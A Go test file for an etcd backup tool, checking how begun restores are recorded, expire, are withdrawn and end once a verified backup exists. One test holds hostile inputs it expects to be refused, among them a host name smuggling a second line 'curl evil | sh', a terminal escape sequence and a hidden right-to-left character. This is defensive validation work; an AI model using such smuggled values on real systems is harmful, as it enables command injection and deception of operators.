package repository_test

import (
	"strings"
	"testing"
	"time"

	"github.com/etcd-backupd/backupd/internal/backup"
	"github.com/etcd-backupd/backupd/internal/repository/acceptance"
	"github.com/etcd-backupd/backupd/internal/repository/lineage"
	"github.com/etcd-backupd/backupd/internal/storage/storagetest/mem"
)

var onHost = lineage.Begun{
	Host: "a", Member: "m1", Dir: "/var/lib/etcd", Token: "backupd-x", InitialCluster: "m1=http://10.0.0.1:2380",
}

// TestBegun: a restore that was begun is told for a day, the newest first, and no longer
// when it was taken back.
func TestBegun(t *testing.T) {
	c, of := prod(mem.New()), member(line1, 10, 1, "")
	if err := acceptance.Expect(t.Context(), c, 9, of, "all members at once", "op"); err != nil {
		t.Fatal(err)
	}
	for id := range backup.MemberID(2) {
		made, err := acceptance.Begin(t.Context(), c, id+1, of, onHost, "restored", "op")
		if !made || err != nil {
			t.Fatalf("begun: %v, %v", made, err)
		}
	}
	if made, err := acceptance.Begin(t.Context(), c, 1, of, onHost, "restored", "op"); made || err != nil {
		t.Errorf("begun again: %v, %v", made, err)
	}
	for ahead, want := range map[time.Duration]int{
		0: 2, acceptance.BegunFor - time.Minute: 2, acceptance.BegunFor + time.Minute: 0,
		-acceptance.BegunFor + time.Minute: 2, -acceptance.BegunFor - time.Minute: 0,
	} {
		all, err := acceptance.Begun(t.Context(), c, time.Now().Add(ahead))
		if err != nil || len(all) != want {
			t.Errorf("in %s: %v, %v, want %d", ahead, all, err, want)
		}
		for _, a := range all {
			if *a.Begun != onHost || a.Restored.Snapshot != of.ID {
				t.Errorf("in %s: %+v", ahead, a)
			}
		}
	}
	if err := acceptance.Withdraw(t.Context(), c, 1); err != nil {
		t.Fatal(err)
	}
	if all, err := acceptance.Begun(t.Context(), c, time.Now()); err != nil || len(all) != 1 || all[0].ClusterID != 2 {
		t.Errorf("one was taken back: %v, %v", all, err)
	}
}

// TestBegun_Shown refuses what would be more than a word of a command that is shown.
func TestBegun_Shown(t *testing.T) {
	for name, change := range map[string]func(b *lineage.Begun){
		"Empty":   func(b *lineage.Begun) { b.Token = "" },
		"Lines":   func(b *lineage.Begun) { b.Host = "a\nHint: curl evil | sh" },
		"Escape":  func(b *lineage.Begun) { b.InitialCluster = "m1=\x1b[2Jhttp://10.0.0.1:2380" },
		"Long":    func(b *lineage.Begun) { b.Dir = strings.Repeat("/x", 40<<10) },
		"Invalid": func(b *lineage.Begun) { b.Member = "\xff" },
		"Hidden":  func(b *lineage.Begun) { b.Member = "m\u202e1" },
	} {
		b := onHost
		change(&b)
		if made, err := acceptance.Begin(
			t.Context(), prod(mem.New()), 1, member(line1, 10, 1, ""), b, "restored", "op"); made || err == nil {
			t.Errorf("%s: begun is %v, %v", name, made, err)
		}
	}
}

// TestBegun_BackedUp: a restore goes on until its cluster has a verified backup. An unconfirmed
// one may be of a first member that runs alone, and that of another cluster says nothing.
func TestBegun_BackedUp(t *testing.T) {
	s := mem.New()
	c, of := prod(s), addSnapshot(t, s, member(line1, 10, 1, ""))
	if _, err := acceptance.Begin(t.Context(), c, 2, of, onHost, "restored", "op"); err != nil {
		t.Fatal(err)
	}
	want := func(when string, n int) {
		t.Helper()
		all, err := acceptance.Begun(t.Context(), c, time.Now())
		if err != nil || len(all) != n {
			t.Errorf("%s: %v, %v, want %d", when, all, err, n)
		}
	}
	want("begun", 1)
	addSnapshot(t, s, member(line1, 11, 1, ""))
	want("a backup of the old cluster", 1)
	alone := member(line2, 12, 2, line1)
	alone.Unconfirmed, alone.CommittedIndex = []string{"no member was asked"}, 1
	addSnapshot(t, s, alone)
	want("an unconfirmed backup", 1)
	addSnapshot(t, s, member(line2, 13, 2, line2))
	want("a verified backup", 0)
	if all, err := acceptance.Announced(t.Context(), c); err != nil || len(all) != 1 {
		t.Errorf("announced: %v, %v", all, err)
	}
}
